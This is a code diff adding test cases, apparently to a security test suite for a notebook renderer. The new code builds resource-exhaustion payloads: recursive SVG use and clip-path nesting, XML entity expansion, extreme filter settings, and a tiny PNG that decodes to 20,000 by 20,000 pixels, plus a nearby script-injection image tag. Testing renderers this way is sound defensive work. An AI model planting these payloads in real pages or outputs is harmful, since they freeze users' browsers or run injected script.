@@ -30,6 +30,53 @@ MORE = [
 ]
 
 
+def _drawing(inside, around=""):
+    start = "<svg xmlns='http://www.w3.org/2000/svg' width='2000' height='2000'>"
+    return f"{around}{start}{inside}</svg>"
+
+
+def _ten_times(element, wrap):
+    """Eight things, each of which shows the one before ten times."""
+    first = "<rect id='a0' width='1' height='1'/>"
+    return first + "".join(wrap(n, element(n - 1) * 10) for n in range(1, 9))
+
+
+def _clip(inner):
+    return f"<rect width='9' height='9' clip-path='url(#a{inner})'/>"
+
+
+DRAWINGS = {
+    "uses of uses": _drawing(
+        _ten_times(lambda n: f"<use href='#a{n}'/>", lambda n, inside: f"<g id='a{n}'>{inside}</g>")
+        + "<use href='#a8'/>"
+    ),
+    "uses by another name": _drawing(
+        "<x:g xmlns:x='http://www.w3.org/2000/svg' xmlns:y='http://www.w3.org/1999/xlink'>"
+        + _ten_times(
+            lambda n: f"<x:use y:href='#a{n}'/>", lambda n, inside: f"<x:g id='a{n}'>{inside}</x:g>"
+        )
+        + "<x:use y:href='#a8'/></x:g>"
+    ),
+    "clips of clips": _drawing(
+        _ten_times(_clip, lambda n, inside: f"<clipPath id='a{n}'>{inside}</clipPath>") + _clip(8)
+    ),
+    "noise": _drawing(
+        "<filter id='f'><feTurbulence baseFrequency='0.9' numOctaves='9999'/></filter>"
+        "<rect width='2000' height='2000' filter='url(#f)'/>"
+    ),
+    "blur": _drawing(
+        "<g style='fil\\74 er:blur(999px)'><rect width='2000' height='2000'/></g>" * 99
+    ),
+    "entities": _drawing(
+        "&b;" * 9, "<!DOCTYPE svg [<!ENTITY a '<rect/><rect/>'><!ENTITY b '&a;&a;&a;&a;'>]>"
+    ),
+    "a page inside": _drawing(
+        "<foreignObject width='9' height='9'><p xmlns='http://www.w3.org/1999/xhtml'>x</p>"
+        "</foreignObject>"
+    ),
+}
+
+
 @attack(S)
 def html_outputs(room):
     source = (
@@ -153,5 +200,35 @@ def a_forest_of_elements(room):
         "for one in ('<div>', '<b>', '<ul><li>', '<table><tr><td>', '<a>', '<p><i>'):\n"
         "    display(HTML(one * 3000 + 'x'))\n"
         "display(HTML('</div>' * 3000 + '<img src=x onerror=hacked(130)>'))\n"
+    )
+    return room.with_code(source)
+
+
+@attack(S)
+def pictures_that_take_forever_to_draw(room):
+    """Each is a few kilobytes, and a browser that shows it does nothing else for minutes."""
+    source = (
+        f"drawings = {list(DRAWINGS.values())!r}\n"
+        "import base64, struct, zlib\n"
+        "from IPython.display import HTML, Markdown, display, publish_display_data\n"
+        "print('armed')\n"
+        "def part(kind, data):\n"
+        "    check = struct.pack('>I', zlib.crc32(kind + data))\n"
+        "    return struct.pack('>I', len(data)) + kind + data + check\n"
+        "line, squeeze = b'\\0' * 2501, zlib.compressobj(9)\n"
+        "lines = b''.join(squeeze.compress(line * 100) for _ in range(200)) + squeeze.flush()\n"
+        "head = part(b'IHDR', struct.pack('>IIBBBBB', 20_000, 20_000, 1, 0, 0, 0, 0))\n"
+        "giant = b'\\x89PNG\\r\\n\\x1a\\n' + head + part(b'IDAT', lines) + part(b'IEND', b'')\n"
+        "pictures = [('png', giant), *(('svg+xml', text.encode()) for text in drawings)]\n"
+        "for kind, data in pictures:\n"
+        "    code = base64.b64encode(data).decode()\n"
+        "    source = f'data:image/{kind};base64,{code}'\n"
+        "    display(HTML(f\"<img src='{source}'>\"), Markdown(f'![x]({source})'))\n"
+        "    publish_display_data({'image/png': code})\n"
+        "    inner = f\"<svg xmlns='http://www.w3.org/2000/svg'><image href='{source}'/></svg>\"\n"
+        "    publish_display_data({'image/svg+xml': inner})\n"
+        "for drawing in drawings:\n"
+        "    display(HTML(drawing))\n"
+        "    publish_display_data({'image/svg+xml': drawing})\n"
     )
     return room.with_code(source)
